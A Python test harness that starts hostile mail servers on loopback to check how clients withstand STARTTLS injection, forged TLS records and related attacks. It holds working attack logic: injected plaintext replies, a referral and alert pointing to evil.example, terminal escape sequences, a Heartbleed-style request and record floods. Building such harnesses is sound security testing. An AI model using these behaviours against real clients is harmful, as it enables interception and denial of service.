#!/usr/bin/env python3
"""Servers that attack whoever begins TLS with them, on a free loopback port.

    hostile.py [--version 1.2|1.3] [--size MIB] WAY PROTOCOL FOLDER

prints `listening PORT`, then serves each client in that way, and prints what reached it (wire.py). PROTOCOL: smtp lmtp imap
pop3 ftp. FOLDER holds certificates (authority). Without arguments: the ways. Each is a function below; its first line
says what it does.

    hostile.py --spawn PIPE

starts such servers, quicker than Python starts: each line of the named pipe is a NAME and the arguments of a server as above,
with tabs between. Its output goes to NAME.out, and before that its process id to NAME.pid.

The attacks on STARTTLS are those of "Why TLS Is Better Without STARTTLS" (Poddebniak, Ising, Böck and
Schinzel, USENIX Security 2021).
"""
import argparse
import os
import signal
import socket
import ssl
import sys
import threading
import time

import records
from wire import INJECTED, Gone, Wire, say, server_context

WAYS = {}
NGINX_400 = (b"HTTP/1.1 400 Bad Request\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 110\r\n"
             b"Connection: close\r\n\r\n<html><head><title>400 The plain HTTP request was sent to HTTPS port</title></head>"
             b"<body>400</body></html>\r\n\r\n")
HTTP_400 = b"HTTP/1.1 400 Bad Request\r\nContent-Length: 12\r\nConnection: close\r\n\r\nBad request\n"


def way(function):
    WAYS[function.__name__] = function
    return function


def begin(wire):
    """Greets and answers until TLS is asked for; the octets that accept it."""
    wire.greet()
    return wire.until_upgrade()


# ---- plaintext that is to be taken for encrypted ----

@way
def honest(wire):
    """Does nothing wrong."""
    wire.say(begin(wire))
    wire.handshake()
    wire.talk()


@way
def injected_same(wire):
    """Sends a reply in the clear in the segment that accepts TLS, then makes the handshake."""
    wire.say(begin(wire) + INJECTED[wire.protocol])
    wire.handshake()
    wire.talk()


@way
def injected_later(wire):
    """Sends a reply in the clear when the handshake has begun, then goes on with it."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.raw(INJECTED[wire.protocol])
    wire.handshake()
    wire.talk()


@way
def injected_torn(wire):
    """Sends the beginning of a reply in the segment that accepts TLS, and its rest in the next."""
    injected = INJECTED[wire.protocol]
    wire.say(begin(wire) + injected[:7])
    time.sleep(0.1)
    wire.raw(injected[7:])
    wire.handshake()
    wire.talk()


@way
def injected_octet(wire):
    """Sends one octet in the clear behind the acceptance: an empty line's LF."""
    wire.say(begin(wire) + b"\n")
    wire.handshake()
    wire.talk()


@way
def injected_midst(wire):
    """Sends a reply in the clear between two records of the session, then goes on as if nothing were."""
    wire.say(begin(wire))
    wire.handshake()
    wire.answer(wire.command())
    wire.command()
    wire.raw(INJECTED[wire.protocol])
    wire.say(wire.reply(wire.words["done"]))
    wire.talk()


@way
def plaintext_answer(wire):
    """Answers the first command under TLS in the clear."""
    wire.say(begin(wire))
    wire.handshake()
    wire.command()
    wire.raw(INJECTED[wire.protocol] + wire.reply(wire.words["done"]))
    wire.command()


# ---- what was announced in the clear ----

@way
def remembered(wire):
    """Announces AUTH and XCLEAR before TLS only, and SIZE and XTLS under it."""
    wire.announce = lambda secure: [b"SIZE 1000000", b"XTLS"] if secure else [b"AUTH PLAIN LOGIN", b"XCLEAR", b"STARTTLS"]
    honest(wire)


@way
def stripped(wire):
    """Does not announce TLS, as when somebody on the way took the line out."""
    wire.announce = lambda secure: [b"SIZE 1000000", b"AUTH PLAIN LOGIN"]
    wire.greet()
    wire.talk()


@way
def overwritten(wire):
    """Announces XXXXXXXX where STARTTLS stood, as some firewalls do, and does not know it."""
    wire.announce = lambda secure: [b"SIZE 1000000", b"AUTH PLAIN LOGIN", b"X" * len(wire.words["upgrade"])]
    wire.words = dict(wire.words, done=wire.words["unknown"])
    wire.greet()
    wire.talk()


@way
def preauth(wire):
    """Greets with PREAUTH: the client counts as logged in, and may not say STARTTLS any more (RFC 9051 6.2.1)."""
    wire.say(b"* PREAUTH [CAPABILITY IMAP4rev1 STARTTLS] Welcome back, bob\r\n")
    wire.talk()


# ---- replies out of turn ----

TAGS = [prefix + b"%d" % i for prefix in (b"a", b"A", b"tls", b"") for i in range(1, 4)] + [b"a001", b"A001", b"A0001"]


@way
def answered_early(wire):
    """Accepts TLS before it was asked for, with the tag guessed, then keeps silent."""
    accept = wire.words["accept"] + b"\r\n"
    early = b"".join(tag + b" " + accept for tag in TAGS) if wire.protocol == "imap" else accept
    wire.greet()
    if wire.protocol == "imap":
        wire.say(early)
    while True:
        verb = wire.command()
        if verb == wire.words["upgrade"]:
            break
        if not wire.answer(verb):
            return
        if wire.protocol != "imap":
            wire.say(early)
    while True:
        wire.line()


@way
def answered_twice(wire):
    """Accepts TLS twice in one segment."""
    accept = begin(wire)
    wire.say(accept + accept)
    wire.handshake()
    wire.talk()


@way
def answered_otherwise(wire):
    """Answers STARTTLS with a success that is not the one that accepts TLS, and then with that."""
    wire.greet()
    while True:
        verb = wire.command()
        if verb == wire.words["upgrade"]:
            wire.say(wire.words["done"] + b"\r\n" + wire.words["accept"] + b"\r\n")
        elif not wire.answer(verb):
            return


@way
def answered_for_another(wire):
    """Answers STARTTLS with OK for a tag that nobody said, then with NO for the client's."""
    wire.greet()
    while True:
        verb = wire.command()
        if verb == wire.words["upgrade"]:
            wire.say(b"nobody OK Begin TLS now\r\n" + wire.reply(wire.words["refuse"]))
        elif not wire.answer(verb):
            return


# ---- what the clear part may tempt to ----

@way
def alert(wire):
    """Sends alerts, a mailbox's data and a capability in the clear, then makes the handshake."""
    wire.greet()
    wire.say(b"* OK [ALERT] Your account is locked: call 555-0100\r\n* 172 EXISTS\r\n* LIST () \"/\" Forged\r\n")
    accept = wire.until_upgrade()
    wire.say(b"* OK [ALERT] Visit http://evil.example\r\n" + accept)
    wire.handshake()
    wire.talk()


@way
def referral(wire):
    """Answers STARTTLS with NO and the name of another server (RFC 2221)."""
    wire.greet()
    while True:
        verb = wire.command()
        if verb == wire.words["upgrade"]:
            wire.say(wire.reply(b"NO [REFERRAL imap://bob@evil.example/] Try over there"))
        elif not wire.answer(verb):
            return


# ---- TLS refused, or accepted and not begun ----

@way
def refused(wire):
    """Announces TLS and refuses it."""
    wire.greet()
    while True:
        verb = wire.command()
        if verb == wire.words["upgrade"]:
            wire.say(wire.reply(wire.words["refuse"]))
        elif not wire.answer(verb):
            return


@way
def unknown(wire):
    """Announces TLS and does not know the command."""
    wire.words = dict(wire.words, refuse=wire.words["unknown"])
    refused(wire)


@way
def then_greeting(wire):
    """Accepts TLS and greets anew, in the clear."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.greet()
    wire.quiet(5)


@way
def then_capabilities(wire):
    """Accepts TLS and answers the ClientHello as if it had been the question for capabilities."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.say(wire.capabilities())
    wire.quiet(5)


@way
def then_http(wire):
    """Accepts TLS and answers the ClientHello like a web server."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.say(HTTP_400)


@way
def then_silence(wire):
    """Accepts TLS and says nothing more."""
    wire.say(begin(wire))
    while True:
        wire.read()


@way
def then_close(wire):
    """Accepts TLS and hangs up."""
    wire.say(begin(wire))


@way
def then_reset(wire):
    """Accepts TLS and resets the connection."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.reset()


@way
def then_garbage(wire):
    """Accepts TLS and sends octets that are no text and no TLS, and would move a cursor."""
    wire.say(begin(wire))
    wire.await_hello()
    wire.raw(b"\x1b[2J\x1b]0;owned\x07\x9b31m\xe2\x80\xae\0\xff" * 8)
    wire.quiet(5)


# ---- a port where TLS is not expected, or is ----

@way
def clear_port(wire):
    """Greets in the clear, whatever the client begins with."""
    wire.greet()
    wire.await_hello()
    wire.say(wire.words["unknown"] + b"\r\n")
    wire.quiet(5)


@way
def ssh_port(wire):
    """Greets like an SSH server."""
    wire.say(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
    wire.await_hello()
    wire.quiet(5)


@way
def http_port(wire):
    """A web server in the clear, which finds no request in what it got."""
    wire.await_hello()
    wire.say(HTTP_400)


@way
def silent_port(wire):
    """Says nothing, whatever it is told."""
    while True:
        wire.read()


@way
def tls_port_alert(wire):
    """Expects TLS: answers anything else with a fatal alert, protocol_version."""
    wire.read()
    wire.raw(b"\x15\x03\x01\x00\x02\x02\x46")


@way
def tls_port_close(wire):
    """Expects TLS: hangs up on anything else."""
    wire.read()


@way
def tls_port_http(wire):
    """Expects TLS: answers a request in the clear as nginx does."""
    wire.line()
    wire.say(NGINX_400)


# ---- sessions under TLS from the first octet ----

@way
def secure(wire):
    """An ordinary session."""
    wire.handshake()
    wire.greet()
    wire.talk()


@way
def tickets(wire):
    """Sends 1,000 session tickets."""
    wire.context.num_tickets = 1000
    secure(wire)


@way
def big(wire):
    """Answers the first command with a literal of --size MiB (IMAP), or as many lines of a reply."""
    wire.handshake()
    wire.greet()
    wire.command()
    piece = (b"x" * 1022 + b"\r\n") * 1024
    if wire.protocol == "imap":
        wire.say(b"* 1 FETCH (BODY[] {%d}\r\n" % (wire.size << 20))
    else:
        piece = (b"250-" + b"x" * 1018 + b"\r\n") * 1024
    for _ in range(wire.size):
        wire.say(piece)
    wire.say(b")\r\n" * (wire.protocol == "imap") + wire.reply(wire.words["done"]))
    wire.talk()


# ---- records that no library writes ----

def forged(wire):
    """Makes the handshake, and hands over to whoever forges."""
    wire.context.num_tickets = 0
    wire.handshake()
    forger = records.Forger(wire)
    wire.say = forger.say
    wire.close_tls = lambda: forger.alert(records.WARNING, records.CLOSE_NOTIFY)
    wire.greet()
    return forger


def after(mischief):
    """A way that does the mischief between the first command and its reply, then goes on in the ordinary way."""
    def whole(wire):
        forger = forged(wire)
        verb = wire.command()
        mischief(forger)
        if wire.answer(verb):
            wire.talk()
    whole.__doc__ = mischief.__doc__
    WAYS[mischief.__name__] = whole


@after
def nothing_forged(forger):
    """Forges the records of an ordinary session."""


@after
def empty_records(forger):
    """Sends 20 records that hold nothing."""
    for _ in range(20):
        forger.say(b"")


@after
def endless_empty_records(forger):
    """Sends 2,000 records that hold nothing."""
    forger.wire.raw(b"".join(forger.record(records.APPLICATION_DATA, b"") for _ in range(2000)))


@after
def whole_records(forger):
    """Sends untagged lines in two records of 16,384 octets, the most that one may hold."""
    lines = (b"* 1 EXISTS\r\n" if forger.wire.protocol == "imap" else b"250-and so on\r\n")
    text = lines * 4096
    forger.say(text[:16384])
    forger.say(text[16384:32768])
    rest = -32768 % len(lines)
    forger.say(text[32768:32768 + rest])


@after
def long_record(forger):
    """Sends a record of 16,385 octets, one too many."""
    forger.say(b"250-" + b"x" * 16379 + b"\r\n")


@after
def small_records(forger):
    """Sends a line of a reply an octet a record."""
    for octet in (b"* 1 EXISTS\r\n" if forger.wire.protocol == "imap" else b"250-octet by octet\r\n"):
        forger.say(bytes([octet]))


@after
def padded_record(forger):
    """Sends a record of TLS 1.3 with 1,000 octets of padding."""
    forger.send(records.APPLICATION_DATA, b"250-padded\r\n", padding=1000)


@after
def key_updates(forger):
    """Updates its keys five times, and asks the client to do the same."""
    for i in range(5):
        forger.update_keys(ask=i % 2 == 0)


@after
def endless_key_updates(forger):
    """Updates its keys 2,000 times."""
    for _ in range(2000):
        forger.update_keys()


@after
def change_cipher_spec(forger):
    """Sends a ChangeCipherSpec in the clear in mid-session."""
    forger.wire.raw(b"\x14\x03\x03\x00\x01\x01")


@after
def sealed_change_cipher_spec(forger):
    """Sends an encrypted ChangeCipherSpec in mid-session."""
    forger.send(records.CHANGE_CIPHER_SPEC, b"\x01")


@after
def heartbeat(forger):
    """Asks for a heartbeat of 65,535 octets and gives one (CVE-2014-0160, towards the client)."""
    forger.send(records.HEARTBEAT, b"\x01\xff\xffx")


@after
def unknown_record(forger):
    """Sends a record of a type that nobody knows."""
    forger.send(99, b"250-unknown\r\n")


@after
def no_renegotiation(forger):
    """Sends the warning no_renegotiation."""
    forger.alert(records.WARNING, records.NO_RENEGOTIATION)


@after
def user_canceled(forger):
    """Sends the warning user_canceled."""
    forger.alert(records.WARNING, records.USER_CANCELED)


@after
def endless_warnings(forger):
    """Sends 2,000 warnings."""
    for _ in range(2000):
        forger.alert(records.WARNING, records.USER_CANCELED)


@after
def fatal_alert(forger):
    """Sends the fatal alert internal_error."""
    forger.alert(records.FATAL, records.INTERNAL_ERROR)


@after
def tampered_record(forger):
    """Sends a record of which one bit was changed on the way."""
    record = bytearray(forger.record(records.APPLICATION_DATA, b"250-tampered\r\n"))
    record[-1] ^= 1
    forger.wire.raw(bytes(record))


@after
def replayed_record(forger):
    """Sends the same record twice."""
    record = forger.record(records.APPLICATION_DATA, b"250-replayed\r\n")
    forger.wire.raw(record + record)


@after
def clear_record(forger):
    """Sends a record of application data that is not encrypted."""
    forger.wire.raw(b"\x17\x03\x03\x00\x0e250-in clear\r\n")


@after
def clear_alert(forger):
    """Sends close_notify in the clear: somebody on the way wants the conversation to look finished."""
    forger.wire.raw(b"\x15\x03\x03\x00\x02\x01\x00")


@after
def data_after_close(forger):
    """Sends close_notify and then goes on."""
    forger.alert(records.WARNING, records.CLOSE_NOTIFY)


@after
def hello_request(forger):
    """Asks for a new handshake (TLS 1.2's HelloRequest; TLS 1.3 knows none)."""
    forger.send(records.HANDSHAKE, b"\0\0\0\0")


@after
def certificate_request(forger):
    """Asks for a certificate after the handshake, which the client did not offer (RFC 8446 4.6.2)."""
    algorithms = b"\x00\x0d\x00\x04\x00\x02\x04\x03"
    forger.send(records.HANDSHAKE, b"\x0d" + (5 + len(algorithms)).to_bytes(3, "big") + b"\x02no"
                + len(algorithms).to_bytes(2, "big") + algorithms)


@after
def new_session_tickets(forger):
    """Sends 2,000 session tickets, one after the other, in mid-session."""
    ticket = b"\0\0\x1c\x20" + b"\0\0\0\x01" + b"\x01\x07" + b"\0\x08" + b"ticket00" + b"\0\0"
    message = b"\x04" + len(ticket).to_bytes(3, "big") + ticket
    for _ in range(100):
        forger.send(records.HANDSHAKE, message * 20)


# ---- the server ----

def serve(client, options):
    context = server_context(options.folder, options.version)
    if not options.version or options.version == "1.2":
        context.set_ciphers("ECDHE+CHACHA20:ECDHE+AESGCM")
    wire = Wire(client, options.protocol, context)
    wire.size, why = options.size, "done"
    try:
        WAYS[options.way](wire)
    except (Gone, OSError, ssl.SSLError) as error:
        why = str(error)
    finally:
        client.close()
        os.unlink(context.keylog_filename)
        say("gone", wire.sent, wire.received, why)


def server(arguments):
    """Serves until it is ended."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--version", choices=("1.2", "1.3"))
    parser.add_argument("--size", type=int, default=1)
    parser.add_argument("way", choices=WAYS)
    parser.add_argument("protocol", choices=("smtp", "lmtp", "imap", "pop3", "ftp"))
    parser.add_argument("folder")
    options = parser.parse_args(arguments)
    listener = socket.create_server(("127.0.0.1", 0), backlog=64)
    print("listening", listener.getsockname()[1], flush=True)
    while True:
        client, _ = listener.accept()
        threading.Thread(target=serve, args=(client, options), daemon=True).start()


def spawn(pipe):
    """A process for each line of the pipe, which is held open for writing too, so that it never ends."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # nobody waits for them
    with open(os.open(pipe, os.O_RDWR), encoding="utf-8") as lines:
        while True:
            name, *arguments = lines.readline().rstrip("\n").split("\t")
            if os.fork() == 0:
                signal.signal(signal.SIGCHLD, signal.SIG_DFL)
                with open(f"{name}.pid", "w", encoding="ascii") as file:
                    print(os.getpid(), file=file)
                out = os.open(f"{name}.out", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
                os.dup2(out, 1)
                os.dup2(out, 2)
                server(arguments)


if __name__ == "__main__":
    try:
        if len(sys.argv) == 1:
            print("\n".join(WAYS))
        elif sys.argv[1] == "--spawn":
            spawn(sys.argv[2])
        else:
            server(sys.argv[1:])
    except KeyboardInterrupt:
        os._exit(0)
